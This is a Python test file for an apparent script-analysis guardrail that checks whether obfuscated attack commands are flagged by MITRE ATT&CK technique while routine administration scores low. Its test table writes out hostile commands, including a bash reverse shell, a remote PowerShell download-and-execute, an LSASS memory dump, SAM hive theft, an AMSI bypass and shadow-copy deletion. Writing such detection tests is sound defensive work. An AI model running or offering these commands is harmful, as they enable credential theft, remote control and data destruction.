# SPDX-License-Identifier: Apache-2.0
"""Signs of attack techniques, through disguises; and that ordinary administration has few."""
# ruff: noqa: E501 - tables of cases

import re

import pytest

from guardrails.danger_effects import score_danger
from guardrails.effects import Effect, EffectKind, EffectSeverity
from guardrails.script_analysis import analyse_script
from guardrails.technique_effects import load_signs

CASES = [
    ("powershell", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full", "T1003.001"),
    ("cmd", "reg save HKLM\\SAM sam.hive", "T1003.002"),
    ("cmd", "r^eg s^ave hk^lm\\sa^m x", "T1003.002"),
    ("cmd", "set a=reg save\n%a% HKLM\\SYSTEM y", "T1003.002"),
    ("powershell", "Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest' -Name UseLogonCredential -Value 1", "T1112"),
    ("powershell", "$k = 'HKLM:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File ' + 'Execution Options\\x.exe'\nNew-ItemProperty -Path $k -Name Debugger -Value cmd.exe", "T1546.012"),
    ("powershell", "[Ref].Assembly.GetType('System.Management.Automation.'+'Ams'+'iUtils')", "T1562.001"),
    ("powershell", "Stop-Ser`vice -Name WinDe`fend", "T1562.001"),
    ("powershell", "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", "T1059.001"),
    ("cmd", "certutil -urlcache -split -f http://x/y.exe y.exe", "T1105"),
    ("cmd", "mshta javascript:alert(1)", "T1218.005"),
    ("cmd", 'schtasks /create /tn x /tr "%temp%\\a.exe" /sc onlogon', "T1053.005"),
    ("cmd", "vssadmin.exe delete shadows /all /quiet", "T1490"),
    ("bash", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1", "T1059.004"),
    ("bash", "cat /etc/sha\\dow", "T1003.008"),
    ("bash", "echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", "T1098.004"),
    ("bash", "unset HISTFILE", "T1562.003"),
    ("bash", "echo L2V0Yy9zaGFkb3cgY2F0IC9ldGMvc2hhZG93 | base64 -d | sh", "T1027"),
    ("zsh", "security dump-keychain -d login.keychain", "T1555.001"),
    ("zsh", "csrutil disable", "T1562.001"),
    ("python", "import os\nos.system('cat /etc/shadow')", "T1003.008"),
]  # fmt: skip


@pytest.mark.parametrize(("interpreter", "text", "technique"), CASES)
def test_techniques_are_seen(interpreter, text, technique):
    analysis = analyse_script(interpreter, text.encode())
    found = [effect for effect in analysis.effects if effect.technique == technique]
    assert found
    assert found[0].line == text.count("\n") + 1
    assert analysis.danger >= 6


@pytest.mark.parametrize(
    ("interpreter", "text"),
    [
        ("powershell", "Write-Host 'next: vssadmin delete shadows'"),
        ("powershell", "# Invoke-Mimikatz\nGet-Date"),
        ("bash", "echo 'never cat /etc/shadow'"),
        ("cmd", "rem vssadmin delete shadows\necho done"),
        ("cmd", "echo %date:~0,4%-%date:~5,2%"),
        ("powershell", "Restart-Service spooler\nGet-ChildItem $env:TEMP | Remove-Item -Recurse"),
        (
            "powershell",
            "Remove-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x",
        ),
        ("bash", "apt-get -y update && systemctl restart cups && rm -rf /var/cache/apt/archives"),
    ],
)
def test_administration_and_words_that_are_only_printed_are_not_dangerous(interpreter, text):
    assert analyse_script(interpreter, text.encode()).danger < 3.5


@pytest.mark.parametrize("system", ["windows", "unix", "any"])
def test_every_sign_is_well_formed(system):
    signs = {sign for each in load_signs(system).values() for sign in each}
    assert len(signs) > 150
    for sign in signs:
        re.compile(sign.pattern)
        assert re.fullmatch(r"T1\d{3}(?:\.\d{3})?", sign.technique)
        assert 0 < sign.suspicion <= 10
    assert all(re.fullmatch(r"[a-z0-9_\u202e]+", word) for word in load_signs(system))


def test_danger_is_the_worst_and_a_little_of_the_rest():
    def effect(kind, technique, suspicion):
        return Effect(
            kind=kind, line=1, detail="", severity=EffectSeverity.LOW,
            technique=technique, suspicion=suspicion,
        )  # fmt: skip

    one = effect(EffectKind.PERSISTS, "T1053", 6.0)
    other = effect(EffectKind.DOWNLOADS, "T1105", 4.0)
    hidden = effect(EffectKind.HIDES_ACTIVITY, "T1027", 4.0)
    assert score_danger([]) == 0
    assert score_danger([one]) == 6
    assert score_danger([one] * 500) == 6
    assert score_danger([one, other]) == pytest.approx(6.2)
    assert score_danger([one, other, hidden]) > 7
    assert score_danger([other, one]) == score_danger([one, other])
